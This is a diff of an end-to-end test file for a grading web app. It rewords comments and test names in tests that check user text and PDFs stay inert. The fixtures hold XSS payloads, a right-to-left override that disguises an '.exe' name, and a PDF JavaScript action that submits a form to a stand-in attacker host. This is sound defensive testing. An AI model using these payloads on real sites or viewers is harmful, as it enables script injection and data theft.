@@ -7,13 +7,13 @@ import { grading, newGradingScene } from './gradingScene.ts';
 import { openAs } from './openWindow.ts';
 
 const markup = '<img src=x onerror=alert(1)></title><script>alert(2)</script>';
-/** Turns round what follows, and is never closed. */
+/** Reverses the direction of the following text and is never closed. */
 const turned = '\u202Egnp.exe';
 const emoji = '👩🏽‍🏫🇸🇦e\u0301\u0300';
 const hostile = `${markup} ${turned} ${emoji}`;
 const unbroken = 'W'.repeat(1_000);
 
-/** The elements that a page has made of plain texts. */
+/** Returns the elements that a page has created from plain text. */
 const madeOf = (page: Page) =>
   page.evaluate(
     () =>
@@ -22,7 +22,7 @@ const madeOf = (page: Page) =>
   );
 
 describe('texts of people', () => {
-  test('are shown as they were written, and nothing in them acts or leaves its place', async () => {
+  test('user-supplied text is shown as written, does not run and does not break the layout', async () => {
     const scene = await newGradingScene({
       title: `${hostile} ${unbroken.slice(0, 100)}`,
       lastNames: [hostile, unbroken.slice(0, 100)],
@@ -63,7 +63,7 @@ describe('texts of people', () => {
     await expect.poll(() => deskOf(window).comment.inputValue()).toBe(comment);
   });
 
-  test('that are too long are refused before they are sent, and stay', async () => {
+  test('text that is too long is rejected before it is sent, and is not lost', async () => {
     const scene = await newGradingScene({ lastNames: ['Abel'] });
     const window = await openAs(scene.grader, scene.deskPath(0));
     const desk = deskOf(window);
@@ -79,7 +79,7 @@ describe('texts of people', () => {
   });
 });
 
-test('a PDF with scripts, forms, links and embedded files does nothing but appear', async () => {
+test('a PDF with scripts, forms, links and embedded files is only displayed', async () => {
   const script = '<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://evil.invalid/"\\))>>';
   const everywhere = '/Rect[0 0 595 842]';
   const catalog = `/OpenAction ${script}/AA<</WC ${script}/WS ${script}>>
